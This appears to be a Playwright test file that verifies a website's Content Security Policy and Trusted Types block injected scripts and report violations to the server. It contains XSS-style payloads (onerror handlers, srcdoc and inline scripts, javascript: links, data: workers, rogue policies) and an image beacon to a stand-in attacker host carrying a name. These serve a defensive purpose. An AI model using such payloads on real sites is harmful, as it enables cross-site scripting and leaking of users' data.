// Protects: no script runs on a page that is not ours.
import type { Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { until } from '#testing/until.ts';
import { setupJourney } from './harness/journey.ts';

/** What somebody could do who has found a way to put text into a page: nothing that runs. */

const refusal =
  /violates the following Content Security [Pp]olicy directive|This document requires '\w+' assignment|Trusted Type/;
const journey = setupJourney();

test('what a page refuses is reported to the server, which logs where and from where', async () => {
  const page = await journey.visit('/about', { expected: /violates|refused|ERR_/i });
  await page.evaluate(
    () => void document.body.appendChild(new Image()).setAttribute('src', 'https://evil.example/pixel?who=Aoife'),
  );
  await until('the report', () => journey.product.output().includes('img-src'));
  const line =
    journey.product
      .output()
      .split('\n')
      .find((one) => one.includes('img-src')) ?? '';
  expect(JSON.parse(line)).toMatchObject({ directive: 'img-src', blocked: 'https://evil.example', path: '/about' });
  expect(line).not.toContain('Aoife');
});

test('markup is not taken', async () => {
  const page = await journey.visit('/make-a-claim', { expected: refusal });
  const left = await page.evaluate(() => {
    const place = document.body.appendChild(document.createElement('div'));
    const insertions = [
      () => Object.assign(place, { innerHTML: '<img src=x onerror="window.ran = true">' }),
      () => place.insertAdjacentHTML('beforeend', '<iframe srcdoc="<script>parent.ran = true</script>"></iframe>'),
      () => place.append(document.createRange().createContextualFragment('<script>window.ran = true</script>')),
    ];
    for (const insert of insertions) {
      try {
        insert();
      } catch {
        // The browser refuses it.
      }
    }
    return place.innerHTML;
  });
  expect(left).toBe('');
  expect(await ran(page)).toBe(false);
});

const attempts: [string, () => void][] = [
  ['a script with text', () => Object.assign(document.createElement('script'), { text: 'window.ran = true' })],
  [
    'a script from elsewhere',
    () => Object.assign(document.createElement('script'), { src: 'data:text/javascript,window.ran=true' }),
  ],
  ['a handler', () => document.body.setAttribute('onclick', 'window.ran = true')],
  [
    'a link that is a script',
    () =>
      Object.assign(document.body.appendChild(document.createElement('a')), {
        href: 'javascript:void(window.ran = true)',
      }).click(),
  ],
  ['a worker', () => new Worker('data:text/javascript,0')],
  ['another policy', () => (window as unknown as Typed).trustedTypes.createPolicy('mine', { createScript: (text) => text })],
  ['a default policy', () => (window as unknown as Typed).trustedTypes.createPolicy('default', { createScript: (text) => text })],
];

test('no script, handler, worker or policy can be made, and no link that is a script is followed', async () => {
  const page = await journey.visit('/contact', { expected: refusal });
  await watchViolations(page);
  for (const [name, make] of attempts) {
    const before = (await violations(page)).length;
    const outcome = await page.evaluate(
      `try { const made = (${make})(); made?.nodeType && document.body.append(made); document.body.click() } catch (error) { String(error) }`,
    );
    if (outcome === undefined)
      await expect.poll(async () => (await violations(page)).length, { message: name }).toBeGreaterThan(before);
    expect(await ran(page), name).toBe(false);
  }
});

type Typed = { trustedTypes: { createPolicy: (name: string, rules: Record<string, (text: string) => string>) => unknown } };

function ran(page: Page): Promise<boolean> {
  return page.evaluate(() => 'ran' in window);
}

/** Collects violations of the page's policy. */
function watchViolations(page: Page): Promise<void> {
  return page.evaluate(() => {
    const seen: string[] = [];
    Object.assign(window, { seen });
    document.addEventListener('securitypolicyviolation', (event) =>
      seen.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`),
    );
  });
}

function violations(page: Page): Promise<string[]> {
  return page.evaluate(() => (window as unknown as { seen: string[] }).seen);
}
